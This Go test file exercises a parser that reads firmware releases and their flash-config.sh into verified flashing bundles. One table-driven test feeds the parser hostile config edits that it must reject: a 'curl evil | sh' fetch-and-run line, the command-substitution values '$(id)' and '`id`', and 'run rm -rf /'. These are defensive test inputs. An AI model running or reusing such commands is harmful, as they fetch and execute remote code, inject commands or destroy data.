package release

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"github.com/zarya-station/zarya/flash/image"
	"github.com/zarya-station/zarya/flash/image/bundle"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// workshop is a folder with images, and a cache.
type workshop struct {
	dir   string
	cache *image.Cache
	about bundle.Manifest
}

func newWorkshop(t testing.TB) *workshop {
	t.Helper()
	w := &workshop{dir: t.TempDir(), about: bundle.Manifest{Name: "aurora", Version: "5.1.0.100", Models: []string{"AGS3-L09"},
		Access: "none"}}
	var err error
	if w.cache, err = image.OpenCache(filepath.Join(w.dir, "cache"), 1<<40); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(w.cache.Close)
	system := make([]byte, 5<<20+4096)
	_, _ = rand.NewChaCha8([32]byte{1}).Read(system[1<<20 : 3<<20])
	boot := append([]byte("ANDROID!"), system[1<<20:1<<20+70000]...)
	vbmeta := append([]byte("AVB0"), make([]byte, 4092)...)
	for name, b := range map[string][]byte{"system.img": system, "boot.img": boot, "vbmeta.img": vbmeta} {
		if err := os.WriteFile(filepath.Join(w.dir, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	w.run(t, "img2simg", "system.img", "system.simg")
	w.run(t, "zstd", "-q", "system.img")
	return w
}

func (w *workshop) run(t testing.TB, name string, args ...string) {
	t.Helper()
	c := exec.Command(name, args...)
	c.Dir = w.dir
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

// bundle builds a bundle of what was read, and holds it to its digests.
func (w *workshop) bundle(t testing.TB, sources []bundle.Source) *bundle.Bundle {
	t.Helper()
	out := filepath.Join(t.TempDir(), "b")
	if err := bundle.Build(t.Context(), out, w.about, sources, bundle.Options{Cache: w.cache}); err != nil {
		t.Fatal(err)
	}
	b, err := bundle.Open(out)
	if err == nil {
		err = b.Verify(t.Context(), w.cache)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const flashConfig = `# What flash.sh does with this
VALID_PRODUCTS=(
"AGS3"
AGS3-L09   # and this one
)

FLASH_OPS=(
"getvar_fail_if secure yes"
"flash boot_a hybris-boot.img"
"flash boot_b hybris-boot.img"
"run sleep 3"
"run fastboot reboot fastboot"
"flash userdata sailfish.img001"
"flash_blob oem_a *_v1[67]_nile.img"
)

GETVAR_ERROR_secure="
This device is not unlocked; \"unlock\" it.
"
FLASH_COMPLETED_MESSAGE='Remove the $cable'
`

// releaseIn writes a release into a folder and packs it with another program.
func releaseIn(t *testing.T, w *workshop, config string) (folder, archive string) {
	t.Helper()
	name := "Aurora-5.1.0.100-AGS3-1.0"
	dir := filepath.Join(w.dir, name)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	w.run(t, "sh", "-c", fmt.Sprintf(
		"cp boot.img %[1]s/hybris-boot.img && cp system.simg %[1]s/sailfish.img001 && cp vbmeta.img %[1]s/SW_v17_nile.img", name))
	if err := os.WriteFile(filepath.Join(dir, "flash-config.sh"), []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	w.run(t, "sh", "-c", fmt.Sprintf(
		"cd %s && echo 'echo never run; exit 1' >flash.sh && md5sum hybris-boot.img sailfish.img001 flash.sh flash-config.sh >md5.lst && "+
			"cd .. && rm -f %[1]s.zip && python3 -c \"import shutil; shutil.make_archive('%[1]s','zip','.','%[1]s')\"", name))
	return dir, dir + ".zip"
}

func TestRelease(t *testing.T) {
	w := newWorkshop(t)
	folder, archive := releaseIn(t, w, flashConfig)
	for _, path := range []string{folder, archive} {
		im, err := Read(t.Context(), []string{path}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(im.Products, []string{"AGS3", "AGS3-L09"}) || im.Name != "aurora" || im.Version != "5.1.0.100" {
			t.Errorf("%+v", im)
		}
		var got []string
		for _, s := range im.Sources {
			got = append(got, fmt.Sprintf("%s:%s@%s=%s", s.Partition, s.Slot, s.Mode, filepath.Base(s.Path)))
		}
		if want := []string{"boot:all@fastboot=hybris-boot.img", "userdata:@fastbootd=sailfish.img001",
			"oem:a@fastbootd=SW_v17_nile.img"}; !slices.Equal(got, want) {
			t.Errorf("%v, want %v", got, want)
		}
		b := w.bundle(t, im.Sources)
		system, err := b.Image(t.Context(), 1, w.cache)
		if err != nil {
			t.Fatal(err)
		}
		want, err := os.ReadFile(filepath.Join(w.dir, "system.img"))
		if err != nil {
			t.Fatal(err)
		}
		bytesOf := make([]byte, system.Size())
		if _, err := system.ReadAt(bytesOf, 0); err != nil || !bytes.Equal(bytesOf, want) {
			t.Error("userdata is not what the release has", err)
		}
		_ = system.Close()
	}
	if im, err := Read(t.Context(), []string{archive}, []string{"userdata"}, nil); err != nil || len(im.Sources) != 1 || len(im.Left) != 2 {
		t.Errorf("%+v %v", im, err)
	}
}

func TestRefuses(t *testing.T) {
	for name, c := range map[string]struct {
		old, new, says string
	}{
		"a command":            {"# What", "curl evil | sh\n# What", `"curl evil | sh" is a command`},
		"an expansion":         {`"flash userdata sailfish.img001"`, `"flash userdata $(id)"`, "what a shell would put in"},
		"a bare expansion":     {"AGS3-L09 ", "`id` ", "is not plain text"},
		"a product pattern":    {`"AGS3"`, `"AGS3.*"`, "is a pattern of products"},
		"no products":          {"VALID_PRODUCTS", "PRODUCTS", "no VALID_PRODUCTS"},
		"another operation":    {`"run sleep 3"`, `"run fastboot set_active a"`, "cannot be part of a bundle"},
		"any command":          {`"run sleep 3"`, `"run rm -rf /"`, "cannot be part of a bundle"},
		"another variable":     {"getvar_fail_if secure yes", "getvar_fail_if anti 4", "cannot be part of a bundle"},
		"no such image":        {"sailfish.img001", "sailfish.img002", "has no sailfish.img002"},
		"an image outside":     {"hybris-boot.img", "../boot.img", "has no ../boot.img"},
		"no blob":              {"*_v1[67]_nile.img", "*_v18_nile.img", "no file matches"},
		"many blobs":           {"*_v1[67]_nile.img", "*", "exactly one file must match"},
		"a string unended":     {"Remove the $cable'", "Remove the $cable", "a string that does not end"},
		"a list unended":       {"_nile.img\"\n)", "_nile.img\"\n", "FLASH_OPS=( does not end"},
		"twice":                {"FLASH_COMPLETED_MESSAGE", "VALID_PRODUCTS", "is set twice"},
		"an image without sum": {"flash userdata sailfish.img001", "flash userdata SW_v17_nile.img", "md5.lst has no sum for SW_v17_nile.img"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorkshop(t)
			_, archive := releaseIn(t, w, strings.Replace(flashConfig, c.old, c.new, 1))
			if _, err := Read(t.Context(), []string{archive}, nil, nil); err == nil || !strings.Contains(err.Error(), c.says) {
				t.Errorf("%v\nwant %q in it", err, c.says)
			}
		})
	}
	w := newWorkshop(t)
	folder, _ := releaseIn(t, w, flashConfig)
	w.run(t, "sh", "-c", "printf X >>"+folder+"/sailfish.img001")
	if _, err := Read(t.Context(), []string{folder}, nil, nil); err == nil ||
		!strings.Contains(err.Error(), "sailfish.img001 has the MD5 sum") {
		t.Error(err)
	}
	for path, says := range map[string]string{filepath.Join(w.dir, "boot.img"): "neither a folder, nor a zip, nor an UPDATE.APP",
		filepath.Join(w.dir, "nowhere"): "no such file", t.TempDir(): "there are no images"} {
		if _, err := Read(t.Context(), []string{path}, nil, nil); err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("%s: %v", path, err)
		}
	}
}

// Full firmware is base, cust and preload together.
func TestApps(t *testing.T) {
	w := newWorkshop(t)
	maker, err := filepath.Abs("../updateapp/testdata/make.py")
	if err != nil {
		t.Fatal(err)
	}
	for _, app := range [][]string{
		{"base.APP", "SHA256RSA=boot.img", "XLOADER=boot.img", "BOOT=boot.img", "VBMETA=vbmeta.img"},
		{"cust.APP", "CRC=boot.img", "CUST=boot.img"},
		{"preload.APP", "PRELOAD=vbmeta.img"},
		{"twice.APP", "BOOT=vbmeta.img"},
	} {
		w.run(t, "python3", append([]string{maker}, app...)...)
	}
	paths := func(names ...string) (all []string) {
		for _, n := range names {
			all = append(all, filepath.Join(w.dir, n))
		}
		return all
	}
	protected := func(p string) bool { return p == "xloader" }
	im, err := Read(t.Context(), paths("base.APP", "cust.APP", "preload.APP"), nil, protected)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, s := range im.Sources {
		got = append(got, s.Partition)
	}
	if want := []string{"boot", "vbmeta", "cust", "preload"}; !slices.Equal(got, want) || len(im.Left) != 3 {
		t.Errorf("%v, want %v; left %v", got, want, im.Left)
	}
	w.bundle(t, im.Sources)
	if im, err := Read(t.Context(), paths("base.APP"), []string{"xloader", "boot"}, protected); err != nil || len(im.Sources) != 2 {
		t.Errorf("%+v %v", im, err)
	}
	if _, err := Read(t.Context(), paths("base.APP"), []string{"system"}, protected); err == nil ||
		!strings.Contains(err.Error(), "nothing for system") {
		t.Error(err)
	}
	if _, err := Read(t.Context(), paths("base.APP", "twice.APP"), nil, protected); err == nil ||
		!strings.Contains(err.Error(), "BOOT is in it and in ") {
		t.Error(err)
	}
	if _, err := Read(t.Context(), paths("base.APP", "boot.img"), nil, protected); err == nil {
		t.Error("an image among UPDATE.APPs")
	}
}

func TestFolder(t *testing.T) {
	w := newWorkshop(t)
	dir := t.TempDir()
	w.run(t, "sh", "-c", fmt.Sprintf("cp boot.img %[1]s && cp system.img.zst %[1]s && echo notes >%[1]s/README.txt", dir))
	im, err := Read(t.Context(), []string{dir}, nil, nil)
	if err != nil || len(im.Sources) != 2 || im.Sources[0].Partition != "boot" || im.Sources[1].Partition != "system" || len(im.Left) != 1 {
		t.Fatalf("%+v %v", im, err)
	}
	w.run(t, "cp", "system.simg", filepath.Join(dir, "system.simg"))
	if _, err := Read(t.Context(), []string{dir}, nil, nil); err == nil || !strings.Contains(err.Error(), "has two images for system") {
		t.Error(err)
	}
}

func FuzzParseConfig(f *testing.F) {
	f.Add(flashConfig)
	f.Add("A=(\"b\" 'c' d)\nE=\"\\\"\"\n")
	f.Fuzz(func(t *testing.T, text string) {
		config, err := ParseConfig(text)
		if err != nil {
			return
		}
		for name, words := range config {
			if name == "" || strings.ContainsAny(name, " \t\n=$`") {
				t.Fatalf("%q = %q", name, words)
			}
		}
	})
}

func TestDescribeFillsWhatIsNotSaid(t *testing.T) {
	r := &Release{Name: "aurora", Version: "5.1", Products: []string{"AGS3"}}
	m := bundle.Manifest{Version: "6.0"}
	if err := r.Describe(&m, "a.zip"); err != nil || m.Name != "aurora" || m.Version != "6.0" || !slices.Equal(m.Models, r.Products) {
		t.Errorf("%+v, %v", m, err)
	}
	m = bundle.Manifest{Models: []string{"AGS3-L09"}}
	if err := r.Describe(&m, "a.zip"); err != nil || !slices.Equal(m.Products, r.Products) || !slices.Equal(m.Models, []string{"AGS3-L09"}) {
		t.Errorf("%+v, %v", m, err)
	}
	err := new(Release).Describe(&bundle.Manifest{Name: "n"}, "a.zip")
	if err == nil || !strings.Contains(err.Error(), "a.zip does not report the bundle's bundle-version") {
		t.Error(err)
	}
}
